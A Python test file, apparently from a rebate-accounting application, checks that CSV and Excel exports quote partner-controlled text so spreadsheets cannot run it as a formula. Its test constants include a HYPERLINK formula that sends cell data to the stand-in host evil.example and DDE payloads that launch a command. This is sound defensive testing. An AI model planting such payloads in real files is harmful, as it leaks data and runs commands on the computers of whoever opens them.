"""No export runs a formula (issue 17, item 7): text a partner controls (its name or id, a
claim number, a dispute reason, a line's document) that a spreadsheet would read as a formula
leaves every CSV and Excel file behind a `'`, as OWASP recommends; plain numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re

import pyarrow as pa
import pytest
from apiclient import PROGRAM, agreements_csv, claim_lines, csv_bytes, line_rows, open_api
from bookkeeping import write_csv
from conftest import PARTNERS, PRODUCTS
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from test_portal import signed_in
from typer.testing import CliRunner

from accrue.api.lists import FileFormat, export
from accrue.api.schemas import PeriodOut
from accrue.cli import app
from accrue.export.cells import inert, inert_arrow
from accrue.ingest.lines import LINE_COLUMNS
from accrue.settings import Settings
from accrue.store.ingest import correction_csv

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Your rebate")'  # a partner's name
EVIL = "@EVIL"  # a partner id a spreadsheet reads as a function
CLAIM = "=1+1"  # a claim number
REASON = "+cmd|' /C calc'!A0"  # a dispute reason
DOCUMENT = "-2+3+cmd|' /C calc'!A0"  # a line's document
DUE, DUE_NAME = "-DUE", "=1+2"  # a partner whose settlement waits to be submitted
LEADS = tuple("=+-@\t\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _live(cell) -> bool:
    """A cell a spreadsheet would run as a formula."""
    return isinstance(cell, str) and cell.startswith(LEADS) and not NUMBER.fullmatch(cell)


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(cells: list, *planted: str) -> None:
    """No live formula in `cells`, and each planted one there as text (so it was exported)."""
    assert [c for c in cells if _live(c)] == []
    for payload in planted:
        assert "'" + payload in cells, payload


@given(st.text())
def test_no_text_leaves_as_a_formula_and_plain_numbers_are_untouched(text):
    shown = inert(text)
    assert not _live(shown)
    assert shown == text or shown == "'" + text
    assert inert(shown) == shown
    if NUMBER.fullmatch(text) or not text.startswith(LEADS):
        assert shown == text


VALUES = [LINK, EVIL, CLAIM, REASON, "\tx", "\rx", "-12.50", "+1", "-", "plain", "", None]


@pytest.mark.parametrize("kind", [pa.string(), pa.large_string(), pa.string_view(), None])
def test_arrow_text_of_every_kind_follows_the_same_rule(kind):
    """Reports stream Arrow batches: their text is made inert in C, as each cell would be."""
    text = pa.array(VALUES, kind) if kind else pa.array(VALUES).dictionary_encode()
    table = pa.table({"text": text, "number": range(len(VALUES))})
    for data in (table, table.to_batches()[0]):
        shown = inert_arrow(data)
        assert shown.column("text").to_pylist() == [inert(v) for v in VALUES]
        assert shown.column("number").to_pylist() == list(range(len(VALUES)))


def _partners() -> bytes:
    rows = [(p.id, p.name, p.parent_id or "", p.segment or "", p.region or "") for p in PARTNERS]
    return csv_bytes(
        ("id", "name", "parent_id", "segment", "region"),
        [*rows, (EVIL, LINK, "", "", ""), (DUE, DUE_NAME, "", "", "")],
    )


@pytest.fixture(scope="module")
def api(tmp_path_factory):
    """Books where a hostile partner is paid by check, claims and disputes, buys this quarter
    from the rep Rita, and another waits to have its settlement submitted."""
    api = open_api(Settings(data_dir=tmp_path_factory.mktemp("exports") / "books", actor="t"))
    api.ok(api.post("ada", "/api/master/partners", files={"file": ("p.csv", _partners())}))
    reps = csv_bytes(("rep_id", "name", "partner_id"), [("R1", "Rita", EVIL)])
    api.ok(api.post("ada", "/api/master/reps", files={"file": ("reps.csv", reps)}))
    rows = [
        *line_rows(EVIL, ["30000.00"]),
        *line_rows("ACME", ["20000.00"]),
        *line_rows(DUE, ["15000.00"], prefix="DUE"),
        *line_rows(EVIL, ["5000.00"], day="2026-11-02", prefix="Q4"),
    ]
    rows[0]["document"] = DOCUMENT
    api.ok(api.post("fin", "/api/lines", json={"name": "q1", "lines": rows}), 201)
    api.ok(api.post("fin", "/api/periods/2026-Q1/close", json={}))
    settled = api.ok(api.get("fin", "/api/settlements", params={"partner_id": EVIL}))["items"]
    request = api.ok(api.post("fin", f"/api/settlements/{settled[0]['id']}/submit"), 201)
    api.ok(api.post("abe", f"/api/approvals/{request['id']}/approve", json={}))
    batch = api.ok(
        api.post("fin", "/api/payout-batches", json={"method": "check", "currency": "USD"}), 201
    )
    [request] = api.ok(api.get("abe", "/api/approvals", params={"status": "pending"}))["items"]
    api.ok(api.post("abe", f"/api/approvals/{request['id']}/approve", json={}))
    api.ok(api.post("fin", f"/api/payout-batches/{batch['id']}/paid", json={"on": "2026-11-30"}))
    api.batch = batch["id"]
    api.ok(api.post("pam", "/api/agreements", files={"file": ("spa.csv", agreements_csv())}), 201)
    pushed = api.post("fin", "/api/claims/lines", json={"lines": claim_lines("ACME", CLAIM)})
    api.claim = api.ok(pushed, 201)[0]["id"]
    about = {"about": "settlement", "key": str(settled[0]["id"]), "reason": REASON}
    api.ok(api.post("fin", "/api/disputes", json=about), 201)
    yield api
    api.client.__exit__(None, None, None)


LISTS = [("/api/partners", (EVIL, LINK)), ("/api/claims", (CLAIM,)), ("/api/disputes", (REASON,))]


@pytest.mark.parametrize(("path", "planted"), LISTS)
def test_a_list_exported_as_csv_runs_no_formula(api, path, planted):
    text = api.ok(api.get("fin", path + "/export", params={"format": "csv"})).text
    _assert_inert(_csv_cells(text), *planted)


@pytest.mark.parametrize(("path", "planted"), LISTS)
def test_a_list_exported_as_excel_runs_no_formula(api, path, planted):
    content = api.ok(api.get("fin", path + "/export", params={"format": "xlsx"})).content
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    _assert_inert([c.value for c in cells], *planted)


def test_a_claim_response_runs_no_formula(api):
    response = api.get("acme", f"/api/claims/{api.claim}/response", params={"format": "csv"})
    _assert_inert(_csv_cells(api.ok(response).text), CLAIM)


def test_the_payout_files_run_no_formula(api):
    name = f"/api/payout-batches/{api.batch}/files/payout-{api.batch}"
    checks = api.ok(api.get("fin", f"{name}-checks.csv")).text
    _assert_inert(_csv_cells(checks), EVIL, LINK)
    journals = api.ok(api.get("fin", f"{name}-journals.csv")).text
    _assert_inert(_csv_cells(journals), EVIL)


def test_rows_to_correct_run_no_formula(api):
    rows = line_rows("ACME", ["12,50"], prefix="BAD")
    rows[0]["document"] = DOCUMENT
    upload = {"file": ("bad.csv", csv_bytes(list(rows[0]), [list(rows[0].values())]))}
    batch = api.ok(api.post("fin", "/api/batches", files=upload), 201)
    text, count = correction_csv(api.books, batch["batch"]["id"])
    assert count == 1
    _assert_inert(_csv_cells(text), DOCUMENT)
    corrected = {"file": ("fixed.csv", text.replace("12,50", "12.50").encode())}
    api.ok(api.post("fin", "/api/batches", files=corrected), 201)
    documents = [x["document"] for x in api.ok(api.get("fin", "/api/lines"))["items"]]
    assert DOCUMENT in documents and "'" + DOCUMENT not in documents  # back as it was sent


@pytest.mark.parametrize(
    ("username", "path", "planted"),
    [
        ("fin", "/finance/exports/to-submit.csv", (DUE, DUE_NAME)),
        ("fin", "/finance/exports/to-submit.xlsx", (DUE, DUE_NAME)),
        ("rita", "/rep/accounts.csv", (LINK,)),
    ],
)
def test_the_portals_exports_run_no_formula(api, username, path, planted):
    answer = signed_in(api, username).get(path)
    assert answer.status_code == 200, answer.text
    if path.endswith(".xlsx"):
        sheet = load_workbook(io.BytesIO(answer.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        _assert_inert([c.value for c in cells], *planted)
    else:
        _assert_inert(_csv_cells(answer.text), *planted)


# --- the command line: reports, the journals, the analyses ----------------------------------

runner = CliRunner()
DRAFT = PROGRAM.replace("id: volume-q", "id: draft")


def _master(folder) -> tuple[str, str]:
    partners = folder / "partners.csv"
    partners.write_bytes(
        csv_bytes(
            ("id", "name", "parent_id", "segment", "region"),
            [
                (p.id, p.name, p.parent_id or "", p.segment or "", p.region or "")
                for p in PARTNERS
                if not p.parent_id
            ]
            + [(EVIL, LINK, "", LINK, "")],
        )
    )
    products = write_csv(
        folder / "products.csv",
        ("sku", "name", "category", "product_line"),
        [(p.sku, p.name, p.category, p.product_line) for p in PRODUCTS],
    )
    return str(partners), str(products)


def _lines(folder) -> str:
    rows = [*line_rows(EVIL, ["30000.00"]), *line_rows("CORE", ["-40.00", "20000.00"])]
    rows[0]["document"] = DOCUMENT
    rows[1].update(kind="return", quantity="-1")
    path = folder / "lines.csv"
    write_csv(path, LINE_COLUMNS, [[r[c] for c in LINE_COLUMNS] for r in rows])
    return str(path)


def _invoke(*args: str) -> str:
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def test_calculated_standings_and_attributions_run_no_formula(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    _master(data)
    _lines(data)
    (tmp_path / "program.yaml").write_text(PROGRAM)
    out = tmp_path / "out"
    _invoke(
        "calc", "--data", str(data), "--programs", str(tmp_path / "program.yaml"), "--out", str(out)
    )
    _assert_inert(_csv_cells((out / "standings.csv").read_text()), EVIL)
    attributions = _csv_cells((out / "attributions.csv").read_text())
    _assert_inert(attributions, EVIL, DOCUMENT)
    assert "-0.80" in attributions  # a return's negative share stays a number


def test_the_journals_and_an_analysis_from_the_command_line_run_no_formula(tmp_path):
    where = ("--data-dir", str(tmp_path / "books"))
    partners, products = _master(tmp_path)
    (tmp_path / "draft.yaml").write_text(DRAFT)
    _invoke(*where, "init")
    _invoke(*where, "import", "partners", partners)
    _invoke(*where, "import", "products", products)
    _invoke(*where, "import", "programs", str(tmp_path / "draft.yaml"))
    _invoke(*where, "import", "lines", _lines(tmp_path), "--as-of", "2026-06-30")
    journals = tmp_path / "journals.csv"
    _invoke(*where, "ledger", "journals", "--out", str(journals))
    _assert_inert(_csv_cells(journals.read_text()), EVIL)
    calibrated = _invoke(
        *where,
        "analyze",
        "calibrate",
        str(tmp_path / "draft.yaml"),
        "--baseline",
        "2026-Q1",
        "--csv",
    )
    _assert_inert(_csv_cells(calibrated), LINK)


def test_an_excel_export_shows_control_characters_a_sheet_cannot_hold():
    """Found by Schemathesis: a batch named with a control character broke the Excel export."""
    row = PeriodOut(label="2026-\x1cQ1", closed_at="2026-04-01", actor="fin\x00")
    workbook = load_workbook(io.BytesIO(export([row], "periods", FileFormat.XLSX).body))
    [_, values] = workbook.active.iter_rows(values_only=True)
    assert values == ("2026-\ufffdQ1", "2026-04-01", "fin\ufffd")
